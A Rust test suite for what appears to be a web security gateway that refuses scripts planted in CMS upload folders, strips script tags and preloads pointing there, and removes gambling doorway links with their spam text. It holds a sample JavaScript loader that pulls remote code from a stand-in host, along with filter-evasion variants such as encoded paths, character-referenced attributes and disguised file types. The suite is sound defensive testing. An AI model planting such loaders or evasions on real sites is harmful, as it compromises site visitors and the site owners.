//! Attack suite for planted loaders and doorway links into upload folders (issue 14,
//! class 5, follow-up): a script planted under an upload folder is refused (403,
//! `upload.doorway`) by name and by type; a page's `<script src>` or script preload that
//! loads from an upload folder is removed (`upload.script`); a same-site link to a page
//! file there is a doorway link, unwrapped like a foreign link, its spam text going with
//! it. The CMS's own scripts (Joomla `media/`, Drupal aggregates, theme and plugin files),
//! links to PDFs, images and documents in uploads, and ordinary pages stay byte for byte.

use crate::common;

use common::body::{full, resp};
use common::gateway::{Gateway, Setup};
use common::rewrite::{clean, rule_ids as rules, site};

const LOADER: &str = "var s=document.createElement('script');s.src='https://bet.test/r.js';\
document.head.appendChild(s);";

async fn assert_refused(h: &Gateway, path: &str) {
    let before = h.events_of("upload.doorway").len();
    let (head, body) = h.body(path, &[]).await;
    assert_eq!(head.status, 403, "{path}");
    assert!(
        !String::from_utf8_lossy(&body).contains("bet.test"),
        "{path}"
    );
    let events = h.events_of("upload.doorway");
    assert_eq!(events.len(), before + 1, "{path}: one upload.doorway event");
}

#[tokio::test]
async fn planted_loader_script_in_an_upload_folder_is_refused() {
    let h = Setup::portal().start().await;
    let js = |ct: &'static str| move || resp(200, &[("content-type", ct)], full(LOADER));
    h.upstream.route("*", js("text/javascript"));
    h.upstream
        .route("/uploads/anh.jpg", js("application/javascript"));
    h.upstream.route(
        "/images/banner.png",
        js("application/x-javascript; charset=utf-8"),
    );
    h.upstream.route("/files/data.txt", js("text/ecmascript"));
    for path in [
        "/wp-content/uploads/2024/05/jquery.js",
        "/wp-content/uploads/2024/05/SW.JS",
        "/wp-content/uploads/x%2ejs",
        "/wp-content/%75ploads/x.mjs",
        "/wp-content/uploads/x.js;v=2",
        "/blog/wp-content/uploads/x.js",
        "/sites/default/files/x.js",
        "/uploads/anh.jpg",
        "/images/banner.png",
        "/files/data.txt",
    ] {
        assert_refused(&h, path).await;
    }
}

#[tokio::test]
async fn cms_scripts_outside_upload_folders_are_served_unchanged() {
    let h = Setup::portal().start().await;
    let own = "jQuery(function($){$('.menu').show()});";
    h.upstream.route("*", move || {
        resp(
            200,
            &[("content-type", "application/javascript")],
            full(own),
        )
    });
    for path in [
        "/media/system/js/core.min.js",
        "/media/vendor/jquery/js/jquery.min.js",
        "/sites/default/files/js/js_aBc123.js",
        "/sites/default/files/languages/vi_x1.js",
        "/wp-content/plugins/contact-form-7/includes/js/index.js",
        "/wp-content/themes/portal/js/main.js",
        "/wp-includes/js/jquery/jquery.min.js",
        "/static/site.js",
    ] {
        let (head, body) = h.body(path, &[]).await;
        assert_eq!(head.status, 200, "{path}");
        assert_eq!(body, own.as_bytes(), "{path}");
    }
    assert!(h.events_of("upload.doorway").is_empty(), "{:?}", h.rules());
}

#[test]
fn script_src_into_an_upload_folder_is_removed() {
    for (tag, gone) in [
        (
            "<script src=\"/wp-content/uploads/2024/05/jquery.js\"></script>",
            "jquery.js",
        ),
        (
            "<script src=\"https://portal.example.gov.vn/uploads/a.jpg\"></script>",
            "a.jpg",
        ),
        ("<script src=\"../uploads/x.js\" defer></script>", "x.js"),
        (
            "<script src=\"/wp-content/%75ploads/y.js\"></script>",
            "y.js",
        ),
        ("<SCRIPT SRC=\"/Uploads/Z.JS\"></SCRIPT>", "Z.JS"),
        ("<script src=\"&#47;images&#47;w.js\"></script>", "w.js"),
        (
            "<script src=\"//portal.example.gov.vn/files/v.js\">x()</script>",
            "v.js",
        ),
        (
            "<script type=\"module\" src=\"/uploads/m.mjs\"></script>",
            "m.mjs",
        ),
        (
            "<link rel=\"modulepreload\" href=\"/uploads/mp.js\">",
            "mp.js",
        ),
        (
            "<link rel=\"preload\" as=\"script\" href=\"/files/pl.js\">",
            "pl.js",
        ),
        ("<link rel=prefetch as=worker href=/uploads/wk.js>", "wk.js"),
    ] {
        let page = format!("<head><title>T</title>{tag}</head><body><p>Tin tức</p></body>");
        let (out, events) = clean(&site(""), &page);
        assert!(!out.contains(gone), "{tag}: {out}");
        assert!(out.contains("<p>Tin tức</p>"), "{tag}: {out}");
        assert_eq!(rules(&events), ["upload.script"], "{tag}");
    }
}

#[test]
fn script_preload_with_character_references_in_rel_or_as_is_removed() {
    for tag in [
        "<link rel=\"module&#112;reload\" href=\"/uploads/mp.js\">",
        "<link rel=\"&#x6D;odulepreload\" href=\"https://so-yte.danang.gov.vn/images/y.js\">",
        "<link rel=\"pre&#108;oad\" as=\"scr&#105;pt\" href=\"/files/pl.js\">",
        "<link rel=\"preload\" as=\"&#115;cript\" href=\"/uploads/a.jpg\">",
        "<link rel=\"prefetch\" as=\"&#119;orker\" href=\"/uploads/wk.js\">",
        "<link rel=\"&#80;RELOAD\" as=\"SCRIPT\" href=\"/uploads/nl.js\">",
        "<link REL=\"stylesheet&#32;modulepreload\" href=\"/wp-content/uploads/x.js\">",
    ] {
        let page = format!("<head>{tag}</head><body><p>Tin tức</p></body>");
        let (out, events) = clean(&site(""), &page);
        assert_eq!(out, "<head></head><body><p>Tin tức</p></body>", "{tag}");
        assert_eq!(rules(&events), ["upload.script"], "{tag}");
    }
}

#[test]
fn cms_script_sources_and_upload_preloads_are_kept() {
    let page = "<head><script src=\"/media/system/js/core.js\"></script>\
<script src=\"/sites/default/files/js/js_aBc.js\"></script>\
<script src=\"/wp-content/themes/portal/js/main.js\"></script>\
<script src=\"https://chinhphu.vn/static/widget.js\"></script>\
<link rel=\"preload\" as=\"image\" href=\"/uploads/banner.jpg\">\
<link rel=\"stylesheet\" href=\"/wp-content/uploads/elementor/css/post-1.css\">\
<link rel=\"preload\" as=\"font\" href=\"/uploads/fonts/a.woff2\" crossorigin></head>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, page);
    assert!(events.is_empty(), "{:?}", rules(&events));
}

#[test]
fn visible_link_to_a_doorway_page_in_uploads_goes_with_its_spam_text() {
    for href in [
        "/wp-content/uploads/2024/05/tai-xiu.html",
        "https://portal.example.gov.vn/uploads/nha-cai.htm",
        "../images/x.xhtml",
        "/wp-content/uploads/a.&#104;tml",
        "/wp-content/plugins/akismet/b.html",
        "/.well-known/c.html",
    ] {
        let page = format!("<p>Xem <a href=\"{href}\">nhà cái uy tín</a> tại đây.</p>");
        let (out, events) = clean(&site(""), &page);
        assert_eq!(out, "<p>Xem  tại đây.</p>", "{href}");
        assert_eq!(rules(&events), ["link.spam_text"], "{href}");
    }
    // In a hidden block, the block goes whole.
    let page =
        "<div style=\"display:none\"><a href=\"/uploads/d.html\">Trang</a> nổ hũ</div><p>Tin</p>";
    let (out, _) = clean(&site(""), page);
    assert_eq!(out, "<p>Tin</p>");
}

#[test]
fn ordinary_link_to_an_uploaded_page_is_unwrapped() {
    let page = "<p>Xem <a href=\"/uploads/thong-bao.html\">thông báo</a>.</p>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, "<p>Xem thông báo.</p>");
    assert_eq!(rules(&events), ["link.foreign"]);
}

#[test]
fn links_to_documents_and_images_in_uploads_are_kept() {
    let page = "<ul><li><a href=\"/wp-content/uploads/2024/05/bao-cao.pdf\">Báo cáo</a></li>\
<li><a href=\"/uploads/ke-hoach.docx\">Kế hoạch</a></li>\
<li><a href=\"/images/anh.jpg\"><img src=\"/images/anh-nho.jpg\" alt=\"Ảnh\"></a></li>\
<li><a href=\"/sites/default/files/ban-do.svg\">Bản đồ</a></li>\
<li><a href=\"/tin-tuc/bai-viet.html\">Tin tức</a></li>\
<li><a href=\"https://chinhphu.vn/uploads/van-ban.pdf\">Văn bản</a></li>\
<li><a href=\"/uploads/\">Thư mục</a></li></ul>";
    let (out, events) = clean(&site(""), page);
    assert_eq!(out, page);
    assert!(events.is_empty(), "{:?}", rules(&events));
}

#[test]
fn a_site_that_sanitizes_uploaded_pages_keeps_links_to_them() {
    let s = site("[site.uploads]\nhtml = \"sanitize\"\n");
    let page = "<p><a href=\"/uploads/thong-bao.html\">Thông báo</a></p>";
    let (out, events) = clean(&s, page);
    assert_eq!(out, page);
    assert!(events.is_empty());
}
